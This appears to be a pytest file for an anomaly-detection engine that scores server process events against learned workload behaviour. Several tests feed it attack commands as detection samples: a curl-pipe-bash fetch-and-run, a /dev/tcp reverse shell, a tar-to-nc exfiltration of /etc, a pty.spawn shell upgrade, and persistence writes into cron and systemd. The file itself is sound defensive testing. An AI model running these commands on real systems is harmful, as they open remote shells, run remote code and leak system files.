"""The default algorithm: quiet on routine drift, loud on what a workload never does."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest

from ruleless.settings import EngineSettings, load_settings
from streams.engine import Engine
from streams.evidence import observations
from streams.scoring import ScoringService
from tests.factories import T0, event, fleet_stream, workload_stream

HOUR = 3600.0


def engine(**settings: object) -> Engine:
    return Engine(EngineSettings(algorithm="evidence", **settings))  # type: ignore[arg-type]


def trained(kind: str = "web", n: int = 2000) -> Engine:
    eng = engine()
    eng.score(list(workload_stream("acme", kind, kind, n)))
    return eng


def test_model_names_algorithm_and_version() -> None:
    [scored] = engine().score([event()])
    assert scored.model == "evidence/1"
    assert scored.learning is True


def test_exact_repeat_of_normal_scores_about_zero() -> None:
    eng = trained()
    [restart] = eng.score([event(ts=T0 + 2000, process_name="nginx", parent_process="systemd", user="root", uid=0,
                                 cmdline="nginx -g daemon off;")])
    assert restart.score < 0.05 and restart.severity == "ok"
    assert restart.learning is False


def test_routine_drift_in_volatile_values_stays_quiet() -> None:
    eng = trained()
    [rotated] = eng.score([event(ts=T0 + 2000, process_name="gzip", parent_process="logrotate", user="root", uid=0,
                                 cmdline="gzip /var/log/nginx/access.log.123456")])
    assert rotated.score < 0.1


def test_never_seen_shell_on_web_server_is_high() -> None:
    eng = trained()
    [shell] = eng.score([event(ts=T0 + 2000, process_name="bash", parent_process="nginx", cmdline="bash -i")])
    assert shell.score >= 0.9 and shell.severity == "alert"
    assert any("nginx -> " in r for r in shell.reasons)


def test_curl_pipe_bash_as_root_is_high_and_its_subcommands_are_explained() -> None:
    eng = trained()
    line = "curl -fsSL http://203.0.113.9/x.sh | bash"
    [bad] = eng.score([event(ts=T0 + 2000, uid=0, user="root", process_name="sh", parent_process="nginx",
                             cmdline=f"sh -c {line}", argv=["sh", "-c", line])])
    assert bad.score >= 0.9 and bad.severity == "alert"
    assert any("sh:" in r for r in bad.reasons)


def test_new_ci_script_second_run_hours_later_scores_far_lower() -> None:
    eng = trained("ci")
    run = dict(process_name="bash", exe="/usr/bin/bash", parent_process="runner", user="ci", uid=1000,
               cmdline="bash ./scripts/release-notes.sh --since v1.4")
    [first] = eng.score([event(ts=T0 + 2000, host="ci-1", **run)])
    [second] = eng.score([event(ts=T0 + 2000 + 5 * HOUR, host="ci-1", **run)])
    assert first.score >= 0.6
    assert second.score <= first.score / 2


def test_burst_of_a_never_seen_command_on_one_host_keeps_alerting() -> None:
    eng = trained()
    shell = dict(process_name="bash", parent_process="nginx", host="web-1",
                 cmdline="bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    tries = eng.score([event(ts=T0 + 2000 + 20 * i, pid=9000 + i, **shell) for i in range(3)])
    assert [t.severity for t in tries] == ["alert"] * 3
    assert tries[2].score >= 0.9


def test_feedback_benign_quiets_and_malicious_pins() -> None:
    eng = trained()
    odd = event(ts=T0 + 2000, process_name="certbot", parent_process="cron", user="root", uid=0, cmdline="certbot renew -q")
    [first] = eng.score([odd])
    eng.feedback(odd, "benign")
    [after] = eng.score([event(ts=T0 + 2010, process_name="certbot", parent_process="cron", user="root", uid=0,
                               cmdline="certbot renew -q")])
    assert after.score < first.score / 3

    bad = dict(process_name="bash", parent_process="nginx", cmdline="bash -i")
    [b1] = eng.score([event(ts=T0 + 3000, host="web-1", **bad)])
    eng.feedback(event(ts=T0 + 3000, host="web-1", **bad), "malicious")
    later = eng.score([event(ts=T0 + 3000 + d * 86_400.0, host=f"web-{d % 3}", **bad) for d in range(1, 6)])
    assert all(s.severity == "alert" for s in later), [s.score for s in later]


def test_thresholds_are_overridable_per_workload() -> None:
    eng = engine(thresholds={"acme/web": {"warn": 0.1, "alert": 0.2}})
    eng.score(list(workload_stream("acme", "web", "web", 500)))
    [s] = eng.score([event(ts=T0 + 1000, process_name="gzip", parent_process="logrotate", user="root", uid=0,
                           cmdline="gzip --best /var/log/nginx/error.log")])
    assert 0.2 <= s.score and s.severity == "alert"


def test_learned_thresholds_follow_the_shards_distribution() -> None:
    eng = trained(n=4000)
    shard = eng.shards["acme/web"]
    warn, alert = shard.thresholds  # type: ignore[attr-defined]
    assert 0.0 < warn <= alert < 1.0


@pytest.mark.parametrize("batch", [1, 13, 500])
def test_batch_scores_equal_one_by_one(batch: int) -> None:
    events = fleet_stream(pairs=4, per_pair=600, seed=5)
    events += [event(ts=events[-1].ts + 1, cmdline="bash -i", process_name="bash", parent_process="nginx")] * 2
    one = engine()
    expected = [one.score([e])[0].score for e in events]
    many = engine()
    got = [s.score for i in range(0, len(events), batch) for s in many.score(events[i : i + batch])]
    assert got == expected


def test_reloaded_shards_score_exactly_like_continuous_ones(tmp_path: Path) -> None:
    # 4,000 events a minute apart: ~3 days, so day boundaries and expiry are crossed.
    events = [msgspec.structs.replace(e, ts=T0 + i * 60.0) for i, e in enumerate(fleet_stream(pairs=5, per_pair=800, seed=9))]
    def svc(name: str) -> ScoringService:
        return ScoringService(load_settings(lancedb={"uri": str(tmp_path / name)}, engine={"algorithm": "evidence", "retention_days": 0.5}))
    cont = svc("a")
    expected = [s.score for s in cont.score(events)]
    first = svc("b")
    half = len(events) // 3
    got = [s.score for s in first.score(events[:half])]
    first.flush()
    second = svc("b")
    got += [s.score for s in second.score(events[half:])]
    assert got == expected


def test_shell_scripts_are_split_into_commands() -> None:
    obs = observations(event(process_name="sh", cmdline="sh -c a | b", argv=["sh", "-c", "tar cf - /etc | nc 203.0.113.1 9"]))
    values = {(o.kind, o.value) for o in obs}
    assert ("prog", "sh:tar") in values and ("prog", "sh:nc") in values
    assert ("arg", "<ip>") in values


def test_inline_python_is_observed_as_code_not_as_a_shell_script() -> None:
    code = "import pty;pty.spawn('/bin/bash')"
    obs = observations(event(process_name="python3", exe="/usr/bin/python3", cmdline=f"python3 -c {code}",
                             argv=["python3", "-c", code]))
    values = {(o.kind, o.value) for o in obs}
    assert ("code", "pty.spawn") in values and ("code", "import") in values
    assert not any(kind == "prog" and value.startswith("sh:") for kind, value in values)


def test_one_program_under_either_merged_usr_path() -> None:
    eng = trained()
    seen = dict(process_name="sh", parent_process="cron", user="root", uid=0, cmdline="sh -c true", argv=["sh", "-c", "true"])
    for i in range(40):
        eng.score([event(ts=T0 + 2000 + i * HOUR, host=f"h{i % 3}", exe="/usr/bin/sh", **seen)])
    [other] = eng.score([event(ts=T0 + 2000 + 41 * HOUR, exe="/bin/sh", **seen)])
    assert other.score < 0.1, other.reasons


def test_a_familiar_command_writing_where_the_workload_never_writes_is_loud() -> None:
    """Issue 13: the danger of `echo … >> /etc/cron.d/x` is where it writes; the same
    program and shape writing into the usual place stays quiet."""
    eng = trained()
    base = dict(process_name="sh", exe="/usr/bin/dash", parent_process="cron", user="root", uid=0)

    def heartbeat(i: int, target: str) -> object:
        script = f"echo alive >> {target}"
        return event(ts=T0 + 2000 + i * HOUR, host=f"web-{i % 3}", cmdline=f"sh -c {script}", argv=["sh", "-c", script], **base)

    for i in range(60):
        eng.score([heartbeat(i, "/var/log/app/heartbeat.log")])
    [usual] = eng.score([heartbeat(61, "/var/log/app/heartbeat.log")])
    [cron] = eng.score([heartbeat(62, "/etc/cron.d/heartbeat")])
    assert usual.score < 0.1
    assert cron.score >= 0.6, cron.reasons
    assert any("writes into /etc/cron.d/" in r for r in cron.reasons), cron.reasons


def test_write_targets_are_observed_for_redirections_and_writing_programs() -> None:
    obs = observations(event(process_name="sh", cmdline="x", argv=["sh", "-c", "cp a /etc/systemd/system/x.service; echo y>>~/.bashrc"]))
    values = {(o.kind, o.ctx, o.value) for o in obs if o.kind in ("write", "writes")}
    assert ("write", "sh:cp", "/etc/systemd/system/") in values and ("writes", "", "/etc/systemd/system/") in values
    assert ("write", "sh:echo", "~/") in values


def test_behaviour_cache_never_changes_a_score() -> None:
    """The compiled-behaviour cache (stat references, the quiet fast path) is only a cache:
    a cache that turns over every two behaviours scores exactly like a large one, across
    day boundaries, expiry (2-day retention) and feedback."""
    from streams.evidence import BehaviourCache

    events = [msgspec.structs.replace(e, ts=T0 + i * 90.0) for i, e in enumerate(fleet_stream(pairs=3, per_pair=1500, seed=11))]
    # A job that becomes well known in its first hour, then stays away past retention.
    job = dict(process_name="backup", parent_process="cron", cmdline="backup --full /srv/data")
    events += [event(ts=T0 + 60.0 * i, host=f"web-{i}", **job) for i in range(40)]
    events += [event(ts=T0 + 3.5 * 86_400 + 60.0 * i, host=f"web-{i}", **job) for i in range(3)]
    events.sort(key=lambda e: e.ts)
    def run(limit: int) -> tuple[list[tuple[float, list[str]]], list[dict]]:
        eng = engine(retention_days=2)
        cache = eng.algorithm.behaviours = BehaviourCache(limit)  # type: ignore[attr-defined]
        out = []
        for i in range(0, len(events), 250):
            out += [(s.score, s.reasons) for s in eng.score(events[i : i + 250])]
            if i == 2000:
                eng.feedback(events[i], "malicious")
                eng.feedback(events[i + 1], "benign")
        assert len(cache) <= 2 * limit
        tables = [eng.shards[k].to_table().sort_by("key").to_pylist() for k in sorted(eng.shards)]
        return out, tables
    assert run(2) == run(1 << 16)


def test_a_copied_shard_learns_on_its_own() -> None:
    import copy

    eng = trained()
    shard = eng.shards["acme/web"]
    saved = copy.deepcopy(shard)
    probe = event(ts=T0 + 5000, process_name="bash", parent_process="nginx", cmdline="bash -i")
    first = eng.score([probe])[0].score
    eng.shards["acme/web"] = saved
    assert eng.score([probe])[0].score == first  # the copy did not see the original's learning


def test_a_copy_copies_every_piece_of_learned_state() -> None:
    module = pure_evidence()
    shard = module.EvidenceAlgorithm(EngineSettings(algorithm="evidence")).new_shard()
    settings_and_identity = {"retention_s", "defaults", "rates", "_behaviours", "_uid"}
    assert set(vars(shard)) == set(module._LEARNED_STATE) | settings_and_identity


def test_the_compiled_engine_scores_and_learns_exactly_like_its_source() -> None:
    """`make native` builds streams/evidence.py with mypyc; the build must not change a
    score, a reason or a learned row."""
    from streams import evidence

    if not evidence.COMPILED:
        pytest.skip("streams/evidence.py is not compiled here (make native)")
    module = pure_evidence()
    stream = fleet_stream(pairs=6, per_pair=800, seed=4) + list(workload_stream("acme", "ci", "ci", 1500))
    settings = EngineSettings(algorithm="evidence")
    compiled, pure = Engine(settings), Engine(settings, algorithm=module.EvidenceAlgorithm(settings))
    for start in range(0, len(stream), 500):
        batch = stream[start : start + 500]
        assert [(s.score, s.reasons, s.severity) for s in compiled.score(batch)] == [
            (s.score, s.reasons, s.severity) for s in pure.score(batch)
        ]
    assert compiled.shards.keys() == pure.shards.keys()
    for key, shard in compiled.shards.items():
        assert shard.to_table().equals(pure.shards[key].to_table()), key


def pure_evidence():  # type: ignore[no-untyped-def]
    """streams/evidence.py run as plain Python, whether or not it is compiled here."""
    import importlib.util

    from streams import algorithm, evidence

    source = Path(algorithm.__file__).with_name("evidence.py")
    spec = importlib.util.spec_from_file_location("tests_pure_evidence", source)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    registered = dict(algorithm._REGISTRY)
    spec.loader.exec_module(module)  # (registers its class under "evidence": put back)
    algorithm._REGISTRY.clear()
    algorithm._REGISTRY.update(registered)
    assert module.__file__.endswith(".py") and algorithm._REGISTRY["evidence"] is evidence.EvidenceAlgorithm
    return module


def test_the_score_window_survives_packing_sparse_or_dense_and_older_encodings() -> None:
    import base64
    import random
    import zlib
    from array import array

    from streams.evidence import _pack_scores, _unpack_scores

    rng = random.Random(5)
    for length, density in ((4096, 0.03), (4096, 0.0), (4096, 0.9), (257, 0.4), (1, 1.0), (0, 0.0)):
        window = array("H", [rng.randrange(1, 1001) if rng.random() < density else 0 for _ in range(length)])
        packed = _pack_scores(window)
        assert _unpack_scores(packed) == window
        assert len(packed) <= len(base64.b64encode(window.tobytes())) + 16, "never much larger than the raw window's base64"
    old = array("H", [0, 5, 0, 900])
    assert _unpack_scores("~" + base64.b64encode(zlib.compress(old.tobytes())).decode()) == old
    assert _unpack_scores(base64.b64encode(old.tobytes()).decode()) == old
